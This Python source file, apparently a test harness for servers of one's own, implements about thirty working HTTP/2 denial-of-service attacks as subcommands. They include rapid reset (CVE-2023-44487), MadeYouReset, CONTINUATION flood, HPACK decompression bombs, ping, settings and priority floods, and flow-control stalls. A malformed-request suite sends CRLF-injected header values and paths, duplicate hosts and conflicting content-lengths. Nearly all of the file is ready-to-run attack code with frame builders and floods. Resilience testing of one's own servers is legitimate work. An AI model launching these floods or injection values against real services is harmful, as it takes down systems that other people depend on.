#!/usr/bin/env python3
"""HTTP/2 clients that mean harm, one a subcommand.

    h2_attacks.py ADDRESS:PORT ATTACK [--path /] [--count N] [--seconds S]

Speaks cleartext HTTP/2 with prior knowledge, attacks until the server has had enough or COUNT and
SECONDS are used up, prints one line of JSON (what was sent, what the server answered, when it ended
the connection) and exits 0. Needs PyPI's h2 (with hyperframe and hpack). Only for servers of one's
own.
"""

import argparse
import collections
import json
import socket
import sys
import threading
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WINDOW_MAX = (1 << 31) - 1


def code(number):
    try:
        return ErrorCodes(number).name
    except ValueError:
        return str(number)


class Unknown:
    """A frame of a kind that nobody knows."""

    def serialize(self):
        return b"\0\0\3\xfa\0\0\0\0\0abc"


class Client:
    """One connection; a thread reads and counts what the server says."""

    def __init__(self, options, settings=None, hello=True, reads=True, acknowledges=True):
        host, _, port = options.address.rpartition(":")
        self.options = options
        self.authority = options.address
        self.acknowledges = acknowledges
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.settimeout(None)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.began = time.monotonic()
        self.next_stream = 1
        self.sent = 0
        self.frames = collections.Counter()
        self.resets = collections.Counter()
        self.reset_streams = {}
        self.statuses = collections.Counter()
        self.status_of = {}
        self.ended_streams = set()
        self.body_bytes = 0
        self.goaways = []
        self.closed = threading.Event()
        self.closed_after = None
        self.moved = threading.Condition()
        self.write(PREFACE)
        if hello:
            self.send(SettingsFrame(0, settings=settings or {}))
        if reads:
            self.read_on()

    def read_on(self):
        threading.Thread(target=self.read, daemon=True).start()

    # Out.

    def write(self, data):
        try:
            self.socket.sendall(data)
            return not self.closed.is_set()
        except OSError:
            return False

    def send(self, *frames):
        self.sent += len(frames)
        return self.write(b"".join(frame.serialize() for frame in frames))

    def fields(self, method="GET", path=None, more=()):
        path = path or self.options.path
        return [
            (":method", method),
            (":scheme", "http"),
            (":authority", self.authority),
            (":path", path),
            *more,
        ]

    def headers(self, fields=None, end=True, block=None, stream=None):
        """A HEADERS frame; `fields` or a ready `block`."""
        if stream is None:
            stream, self.next_stream = self.next_stream, self.next_stream + 2
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode(fields or self.fields()) if block is None else block
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame

    # In.

    def read(self):
        data = b""
        try:
            while chunk := self.socket.recv(1 << 16):
                data += chunk
                while len(data) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(data[:9]))
                    if len(data) < 9 + length:
                        break
                    frame.parse_body(memoryview(data[9 : 9 + length]))
                    data = data[9 + length :]
                    with self.moved:
                        self.heard(frame)
                        self.moved.notify_all()
        except OSError:
            pass
        self.closed_after = time.monotonic() - self.began
        with self.moved:
            self.closed.set()
            self.moved.notify_all()

    def heard(self, frame):
        self.frames[type(frame).__name__.removesuffix("Frame")] += 1
        if isinstance(frame, GoAwayFrame):
            self.goaways.append(
                {
                    "code": code(frame.error_code),
                    "last_stream": frame.last_stream_id,
                    "debug": frame.additional_data.decode("latin-1"),
                }
            )
        elif isinstance(frame, RstStreamFrame):
            self.resets[code(frame.error_code)] += 1
            self.reset_streams[frame.stream_id] = code(frame.error_code)
        elif isinstance(frame, DataFrame):
            self.body_bytes += len(frame.data)
        elif isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            self.statuses[fields.get(":status", "trailers")] += 1
            self.status_of.setdefault(frame.stream_id, fields.get(":status"))
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            if self.acknowledges:
                self.send(SettingsFrame(0, flags=["ACK"]))
                self.sent -= 1
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            if self.acknowledges:
                self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]))
                self.sent -= 1
        if "END_STREAM" in frame.flags:
            self.ended_streams.add(frame.stream_id)

    def wait(self, ready, seconds):
        """Waits until something is true, or the server is gone, or the time is over."""
        with self.moved:
            self.moved.wait_for(lambda: ready() or self.closed.is_set(), seconds)
            return ready()

    def left(self):
        """Seconds until the time is over."""
        return max(0.0, self.options.seconds - (time.monotonic() - self.began))

    def all_over(self):
        """Waits until every stream was answered whole, or reset."""
        streams = set(range(1, self.next_stream, 2))
        self.wait(lambda: streams <= self.ended_streams | self.reset_streams.keys(), self.left())
        return self.over(waits=False)

    def over(self, waits=True, **more):
        """What there is to tell; the server has `--seconds` to end the connection."""
        if waits:
            self.closed.wait(self.left())
        closed = self.closed.is_set()
        return {
            "sent_frames": self.sent,
            "closed": closed,
            "seconds": round(self.closed_after if closed else time.monotonic() - self.began, 3),
            "goaway": self.goaways[-1]["code"] if self.goaways else None,
            "goaways": self.goaways,
            "statuses": dict(self.statuses),
            "resets": dict(self.resets),
            "frames": dict(self.frames),
            "body_bytes": self.body_bytes,
            **more,
        }


ATTACKS = {}


def attack(count=0):
    def add(function):
        name = function.__name__.replace("_", "-")
        ATTACKS[name] = (function, count)
        return function

    return add


def flood(client, frames, batch=50):
    """Sends `frames()` so many times in batches, until the server is gone."""
    left = client.options.count
    while left > 0:
        size = min(batch, left)
        if not client.send(*[frame for _ in range(size) for frame in frames()]):
            break
        left -= size


# === streams ===


@attack(20_000)
def rapid_reset(options):
    """Opens streams and takes each back at once (CVE-2023-44487)."""
    client = Client(options)

    def frames():
        opened = client.headers()
        return opened, RstStreamFrame(opened.stream_id, int(ErrorCodes.CANCEL))

    flood(client, frames)
    return client.over()


@attack(2_000)
def slow_rapid_reset(options):
    """The same one by one, each when the last one has been seen by the service."""
    client = Client(options)
    for _ in range(options.count):
        opened = client.headers()
        if not client.send(opened):
            break
        time.sleep(0.001)
        if not client.send(RstStreamFrame(opened.stream_id, int(ErrorCodes.CANCEL))):
            break
    return client.over()


@attack(5_000)
def made_you_reset(options):
    """Makes the server reset each stream: a window update that overflows (CVE-2025-8671)."""
    client = Client(options)

    def frames():
        opened = client.headers(client.fields("POST"), end=False)
        return opened, WindowUpdateFrame(opened.stream_id, WINDOW_MAX)

    flood(client, frames, batch=20)
    return client.over()


@attack(20_000)
def many_streams(options):
    """Ordinary requests, one after another, for as long as the server takes them."""
    client = Client(options)
    done = 0
    while done < options.count and not client.goaways:
        opened = client.headers()
        if not client.send(opened):
            break
        stream = opened.stream_id
        if not client.wait(lambda: stream in client.ended_streams, 10):
            break
        done += 1
    return client.over(answered=done)


@attack(20_000)
def deaf_to_goaway(options):
    """Ordinary requests without end, whatever GOAWAY says, and its PING is not answered."""
    client = Client(options, acknowledges=False)
    done = 0
    while done < options.count:
        opened = client.headers()
        if not client.send(opened):
            break
        stream = opened.stream_id
        if not client.wait(lambda: stream in client.ended_streams, 2):
            break
        done += 1
    return client.over(answered=done)


# === headers ===


@attack(10_000)
def continuation_flood(options):
    """A header block that never ends, in small pieces (CVE-2024-27316)."""
    client = Client(options)
    opened = client.headers()
    opened.flags.discard("END_HEADERS")
    client.send(opened)
    piece = hpack.Encoder().encode([("x-more", "y" * 100)], huffman=False)
    flood(client, lambda: (ContinuationFrame(opened.stream_id, piece),), batch=1)
    return client.over()


@attack(2_000)
def empty_continuations(options):
    """The same with nothing in it."""
    client = Client(options)
    opened = client.headers()
    opened.flags.discard("END_HEADERS")
    client.send(opened)
    flood(client, lambda: (ContinuationFrame(opened.stream_id, b""),), batch=1)
    return client.over()


@attack(64)
def header_bomb(options):
    """Requests with headers of 200 KB, in frames of 16 KiB."""
    client = Client(options)
    for number in range(options.count):
        more = [(f"x-{number}-{field}", "v" * 4000) for field in range(50)]
        block = hpack.Encoder().encode(client.fields(more=more), huffman=False)
        opened = client.headers(block=block[:16384])
        frames = [opened]
        opened.flags.discard("END_HEADERS")
        for at in range(16384, len(block), 16384):
            frames.append(ContinuationFrame(opened.stream_id, block[at : at + 16384]))
        frames[-1].flags.add("END_HEADERS")
        if not client.send(*frames):
            break
    return client.over()


def indexed(client, name, value, times):
    """A block whose field is put into the dynamic table once and named `times` times."""
    block = hpack.Encoder().encode(client.fields(), huffman=False)
    # Literal with incremental indexing, new name.
    block += b"\x40" + length(len(name)) + name + length(len(value)) + value
    # Index 62: the table's newest.
    return block + b"\xbe" * times


def length(number):
    if number < 127:
        return bytes([number])
    out, number = bytearray([127]), number - 127
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes(out + bytes([number]))


@attack(100)
def hpack_bomb(options):
    """A field of 3 KB, named ten thousand times in a byte each: 30 MB a request (CVE-2016-6581)."""
    client = Client(options)
    for _ in range(options.count):
        opened = client.headers(block=indexed(client, b"x-bomb", b"b" * 3000, 10_000))
        if not client.send(opened):
            break
    return client.over()


@attack(100)
def cookie_crumbs(options):
    """Fifteen thousand empty cookies in a byte each, in every request."""
    client = Client(options)
    for _ in range(options.count):
        if not client.send(client.headers(block=indexed(client, b"cookie", b"", 15_000))):
            break
    return client.over()


@attack(100)
def header_hold(options):
    """Requests with as many small headers as are taken, whose bodies never come."""
    client = Client(options)
    # Just below 64 KiB as RFC 9113 counts: 33 bytes for "a" and its nothing.
    for _ in range(options.count):
        block = indexed(client, b"a", b"", 1900)
        if not client.send(client.headers(block=block, end=False)):
            break
    return client.all_over()


# === frames that carry nothing ===


@attack(200_000)
def empty_data(options):
    """A body of empty DATA frames (CVE-2019-9518)."""
    client = Client(options)
    opened = client.headers(client.fields("POST"), end=False)
    client.send(opened)
    flood(client, lambda: (DataFrame(opened.stream_id),), batch=200)
    return client.over()


@attack(200_000)
def tiny_data(options):
    """A body of one byte a DATA frame."""
    client = Client(options)
    opened = client.headers(client.fields("POST"), end=False)
    client.send(opened)
    flood(client, lambda: (DataFrame(opened.stream_id, b"x"),), batch=200)
    return client.over()


@attack(200_000)
def padded_data(options):
    """A body of padding."""
    client = Client(options)
    opened = client.headers(client.fields("POST"), end=False)
    client.send(opened)

    def frames():
        frame = DataFrame(opened.stream_id, b"", pad_length=255)
        frame.flags.add("PADDED")
        return (frame,)

    flood(client, frames, batch=20)
    return client.over()


@attack(100_000)
def ping_flood(options):
    """PINGs (CVE-2019-9512)."""
    client = Client(options)
    flood(client, lambda: (PingFrame(0, b"12345678"),), batch=200)
    return client.over()


@attack(100_000)
def ping_flood_unread(options):
    """PINGs whose answers are never read."""
    client = Client(options, reads=False)
    flood(client, lambda: (PingFrame(0, b"12345678"),), batch=200)
    client.read_on()
    return client.over()


@attack(100_000)
def settings_flood(options):
    """SETTINGS (CVE-2019-9515)."""
    client = Client(options)
    flood(client, lambda: (SettingsFrame(0, settings={4: 65535}),), batch=100)
    return client.over()


@attack(100_000)
def priority_flood(options):
    """PRIORITY (CVE-2019-9513)."""
    client = Client(options)
    flood(client, lambda: (PriorityFrame(0x7FFFFFFF, stream_weight=7),), batch=200)
    return client.over()


@attack(100_000)
def unknown_flood(options):
    """Frames of a kind that doesn't exist."""
    client = Client(options)
    flood(client, lambda: (Unknown(),), batch=200)
    return client.over()


@attack(100_000)
def window_update_flood(options):
    """Window updates for nothing."""
    client = Client(options)
    flood(client, lambda: (WindowUpdateFrame(0, 1),), batch=200)
    return client.over()


@attack(100_000)
def window_dribble(options):
    """A big answer asked for byte by byte (CVE-2019-9511)."""
    client = Client(options, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    opened = client.headers()
    client.send(opened)
    flood(client, lambda: (WindowUpdateFrame(opened.stream_id, 1),), batch=20)
    return client.over()


# === clients that don't read, or don't speak ===


@attack(100)
def window_stall(options):
    """Asks for big answers on many streams with a window of nothing, and holds them."""
    client = Client(options, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    client.send(*[client.headers() for _ in range(options.count)])
    return client.all_over()


@attack(100)
def socket_stall(options):
    """Asks for big answers on many streams with the largest windows, and reads nothing."""
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: WINDOW_MAX}
    client = Client(options, settings=settings, reads=False)
    client.send(WindowUpdateFrame(0, WINDOW_MAX - 65535))
    client.send(*[client.headers() for _ in range(options.count)])
    # Only when the time is over does it look what there is.
    time.sleep(options.seconds)
    client.read_on()
    client.closed.wait(5)
    return client.over()


@attack(100)
def slow_bodies(options):
    """Opens many requests and sends a byte of each body every quarter of a second."""
    client = Client(options)
    opened = [
        client.headers(client.fields("POST", more=[("content-length", "100000")]), end=False)
        for _ in range(options.count)
    ]
    client.send(*opened)
    while not client.closed.wait(0.25) and time.monotonic() - client.began < options.seconds:
        live = [it for it in opened if it.stream_id not in client.ended_streams]
        live = [it for it in live if it.stream_id not in client.reset_streams]
        if not live or not client.send(*[DataFrame(it.stream_id, b"x") for it in live]):
            break
    return client.over(waits=False)


@attack()
def silence(options):
    """Nothing after the preface."""
    return Client(options, hello=False, acknowledges=False).over()


@attack()
def no_settings(options):
    """A request without SETTINGS before it."""
    client = Client(options, hello=False, acknowledges=False)
    client.send(client.headers())
    return client.over()


@attack()
def silence_after_settings(options):
    """No request."""
    return Client(options).over()


@attack()
def half_a_block(options):
    """A header block that begins and never goes on."""
    client = Client(options, acknowledges=False)
    opened = client.headers()
    opened.flags.discard("END_HEADERS")
    client.send(opened)
    return client.over()


# === requests that are malformed ===


@attack()
def malformed(options):
    """Requests that RFC 9113 calls malformed, each on a connection of its own."""
    answers = {}

    def ask(name, fields, body=None):
        client = Client(options)
        block = literal(fields)
        opened = client.headers(block=block, end=body is None)
        frames = [opened]
        if body is not None:
            frames.append(DataFrame(opened.stream_id, body, flags=["END_STREAM"]))
        client.send(*frames)
        stream = opened.stream_id
        client.wait(
            lambda: stream in client.reset_streams or stream in client.ended_streams or client.goaways,
            5,
        )
        if client.goaways:
            answers[name] = "GOAWAY " + client.goaways[-1]["code"]
        elif stream in client.status_of:
            answers[name] = client.status_of[stream]
        elif stream in client.reset_streams:
            answers[name] = "RST_STREAM " + client.reset_streams[stream]
        else:
            answers[name] = "nothing"
        client.socket.close()

    base = [
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":authority", options.address.encode()),
        (b":path", options.path.encode()),
    ]
    post = [(b":method", b"POST"), *base[1:]]

    def without(name):
        return [field for field in base if field[0] != name]

    def with_path(path):
        return [*base[:3], (b":path", path)]

    ask("well formed", base)
    ask("well formed, with a body", [*post, (b"content-length", b"4")], b"body")
    for name, value in [
        ("connection", "close"),
        ("connection", "keep-alive"),
        ("keep-alive", "timeout=5"),
        ("proxy-connection", "close"),
        ("transfer-encoding", "chunked"),
        ("upgrade", "websocket"),
        ("te", "gzip"),
    ]:
        ask(f"{name}: {value}", [*base, (name.encode(), value.encode())])
    for name, value in [
        ("CR LF in a value", b"a\r\nx-evil: b"),
        ("LF in a value", b"a\nb"),
        ("CR in a value", b"a\rb"),
        ("NUL in a value", b"a\0b"),
        ("space before a value", b" a"),
        ("tab after a value", b"a\t"),
    ]:
        ask(name, [*base, (b"x-test", value)])
    for name, field in [
        ("upper case in a name", b"X-Test"),
        ("space in a name", b"x test"),
        ("colon in a name", b"x:test"),
        ("CR LF in a name", b"x\r\ny"),
        ("empty name", b""),
    ]:
        ask(name, [*base, (field, b"a")])
    for name, path in [
        ("path without a slash", b"v1/models"),
        ("absolute path", b"http://other.test/"),
        ("star path", b"*"),
        ("empty path", b""),
        ("space in the path", b"/a b"),
        ("CR LF in the path", b"/a\r\nx: y"),
        ("NUL in the path", b"/a\0"),
        ("fragment in the path", b"/a#b"),
    ]:
        ask(name, with_path(path))
    ask("no authority and no host", without(b":authority"))
    ask("host instead of authority", [*without(b":authority"), (b"host", b"a.test")])
    ask("host that contradicts", [*base, (b"host", b"other.test")])
    ask("two hosts", [*without(b":authority"), (b"host", b"a.test"), (b"host", b"b.test")])
    ask("authority with a user", [*base[:2], (b":authority", b"u@a.test"), base[3]])
    ask("empty authority", [*base[:2], (b":authority", b""), base[3]])
    ask("no method", without(b":method"))
    ask("no scheme", without(b":scheme"))
    ask("no path", without(b":path"))
    ask("two paths", [*base, (b":path", b"/other")])
    ask("unknown pseudo-header", [*base, (b":test", b"a")])
    ask("status in a request", [*base, (b":status", b"200")])
    ask("pseudo-header after a header", [*base[:3], (b"x-test", b"a"), base[3]])
    ask("method with a space", [(b":method", b"GET /x HTTP/1.1"), *base[1:]])
    ask("CONNECT", [(b":method", b"CONNECT"), base[2]])
    ask("CONNECT without authority", [(b":method", b"CONNECT")])
    ask("body longer than its length", [*post, (b"content-length", b"3")], b"body")
    ask("body shorter than its length", [*post, (b"content-length", b"5")], b"body")
    ask("two lengths", [*post, (b"content-length", b"4"), (b"content-length", b"5")], b"body")
    ask("length that is no number", [*post, (b"content-length", b"+4")], b"body")
    return {"answers": answers}


def literal(fields):
    """Fields that no encoder would let through: literals without indexing."""
    out = b""
    for name, value in fields:
        out += b"\x00" + length(len(name)) + name + length(len(value)) + value
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("address")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=int)
    parser.add_argument("--seconds", type=float, default=10.0)
    options = parser.parse_args()
    function, count = ATTACKS[options.attack]
    if options.count is None:
        options.count = count
    print(json.dumps({"attack": options.attack, **function(options)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
